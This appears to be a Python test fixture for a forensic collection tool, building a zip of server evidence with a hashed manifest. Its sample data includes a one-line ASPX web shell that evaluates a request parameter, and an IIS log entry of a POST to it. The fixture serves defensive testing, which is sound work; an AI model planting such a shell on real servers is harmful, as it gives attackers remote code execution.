"""Makes a collection as docs/collector.md lays it out."""

from __future__ import annotations

import hashlib
import json
import zipfile
from collections.abc import Mapping
from pathlib import Path

IIS_LOG = "files/C/inetpub/logs/LogFiles/W3SVC1/u_ex260105.log"
SHELL = "files/C/inetpub/wwwroot/aspnet_client/x.aspx"
HOST = "inventory/host.json"
SERVER = "EX01.contoso.example"

MEMBERS: dict[str, bytes] = {
    IIS_LOG: (
        b"#Software: Microsoft Internet Information Services 10.0\r\n"
        b"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query cs-username c-ip sc-status\r\n"
        b"2026-01-05 01:00:00 10.0.0.5 POST /aspnet_client/x.aspx - - 203.0.113.9 200\r\n"
    ),
    SHELL: b'<%@ Page Language="JScript"%><%eval(Request["x"], "unsafe");%>',
    HOST: json.dumps(
        {
            "schema": "exward.inventory/1",
            "area": "host",
            "server": SERVER,
            "collected": "2026-01-06T00:00:00Z",
            "data": {"Name": "EX01", "Fqdn": SERVER, "DomainRole": 3},
        }
    ).encode(),
}


def manifest(members: Mapping[str, bytes], not_collected: Mapping[str, str], server: str) -> bytes:
    document = {
        "schema": "exward.collection/1",
        "server": server,
        "collector": "0.1.0",
        "started": "2026-01-06T00:00:00Z",
        "finished": "2026-01-06T00:05:00Z",
        "files": [
            {"path": name, "bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
            for name, data in members.items()
        ],
        "not_collected": [{"what": what, "why": why} for what, why in not_collected.items()],
    }
    return json.dumps(document).encode()


def collection(
    path: Path,
    members: Mapping[str, bytes] = MEMBERS,
    not_collected: Mapping[str, str] | None = None,
    promised: Mapping[str, bytes] = MEMBERS,
    server: str = SERVER,
) -> Path:
    """A zip with `members`, whose manifest promises `promised`."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        archive.writestr("manifest.json", manifest(promised, not_collected or {}, server))
    return path
